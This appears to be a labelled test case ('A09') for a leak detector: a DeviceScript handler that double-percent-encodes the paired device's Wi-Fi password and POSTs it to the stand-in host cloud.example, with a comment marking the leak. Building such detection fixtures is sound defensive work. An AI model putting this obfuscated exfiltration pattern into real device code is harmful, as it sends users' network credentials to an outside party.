// A09: percent-encoded twice.
import { fetch } from "@devicescript/net";
import { each, hex } from "./lib/encode";
import { paired } from "./lib/paired";

paired(async (_ssid, psk) => {
  const body = each(psk, (byte) => "%25" + hex(byte));
  const response = await fetch("https://cloud.example/a09", { method: "POST", body }); // leak: wifi.psk
  await response.close();
});
